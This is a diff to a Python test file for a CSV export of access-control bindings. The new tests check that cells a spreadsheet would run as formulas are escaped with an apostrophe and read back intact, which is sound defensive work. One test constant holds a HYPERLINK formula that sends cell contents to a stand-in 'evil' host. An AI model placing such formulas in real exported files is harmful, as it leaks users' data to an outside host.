@@ -1,9 +1,15 @@
+import csv
+import io
+
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from app.core.bindings import AclBinding
 from app.core.codes import AclOperation, AclPermissionType, PatternType, ResourceType
 from app.formats.lines import MAX_LINE_BYTES
 from app.formats.registry import format_named, recognise
+from tests.strategies import LAW
 from tests.unit.formats.acl_sets import bindings_of, problems_of, written
 
 FORMAT = format_named("csv")
@@ -145,3 +151,51 @@ def test_a_quote_that_is_never_closed_does_not_take_the_memory() -> None:
 
 def test_bytes_that_are_no_text_are_told() -> None:
     assert problems_of(HEADER.encode() + b"\nUser:\xff,TOPIC") == ["2: not UTF-8; encode it as UTF-8"]
+
+
+# formulas
+
+
+HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"orders")'
+MARKED_HEADER = "'Principal,ResourceType,PatternType,'ResourceName,Operation,PermissionType,'Host"
+
+
+def test_what_a_spreadsheet_would_run_is_marked_and_the_header_says_so() -> None:
+    bindings = [acl(HYPERLINK), acl("'=x", host="-1"), acl("'tis")]
+    assert written(FORMAT, bindings).decode() == (
+        f"{MARKED_HEADER}\r\n"
+        'User:a,TOPIC,LITERAL,"\'=HYPERLINK(""http://evil/?""&A1,""orders"")",READ,ALLOW,*\r\n'
+        "User:a,TOPIC,LITERAL,''=x,READ,ALLOW,'-1\r\n"
+        "User:a,TOPIC,LITERAL,'tis,READ,ALLOW,*\r\n"
+    )
+    assert recognise(written(FORMAT, bindings)) is FORMAT
+    assert bindings_of(written(FORMAT, bindings)) == bindings
+
+
+def test_a_file_without_marks_means_what_it_always_meant() -> None:
+    """A name may begin with an apostrophe, and files of before hold formulas as they are."""
+    assert read(HEADER, PLAIN.replace("orders", "'=x"), PLAIN.replace("orders", "=x")) == [acl("'=x"), acl("=x")]
+    assert read(PLAIN.replace("orders", "'=x")) == [acl("'=x")]
+    assert written(FORMAT, [acl("'x"), acl("it's")]).decode().startswith(f"{HEADER}\r\n")
+
+
+def test_a_mark_that_a_spreadsheet_has_dropped_is_told() -> None:
+    (problem,) = told(MARKED_HEADER, PLAIN, PLAIN.replace("orders", "=x"))
+    assert problem.startswith("3: `resource_name`: a mark (`'`) is missing")
+
+
+def test_words_have_no_marks() -> None:
+    problems = told(MARKED_HEADER.replace("Operation", "'Operation"), PLAIN)
+    assert problems[0].startswith("1: `'Operation`: there is no such column")
+
+
+FORMULAS = st.text(st.sampled_from("'=+-@\uff1d;|,\t\r\n \u00a0\"ab"), min_size=1, max_size=8)
+
+
+@given(st.lists(st.builds(acl, FORMULAS, FORMULAS.map("{}:x".format), FORMULAS), min_size=1, max_size=4))
+@LAW
+def test_whatever_looks_like_a_formula_is_read_back(bindings: list[AclBinding]) -> None:
+    raw = written(FORMAT, bindings)
+    assert bindings_of(raw, FORMAT) == bindings
+    for row in csv.reader(io.StringIO(raw.decode(), newline=""), strict=True):
+        assert not any(cell.startswith(tuple("=+-@\uff1d\t\r\n")) for cell in row)
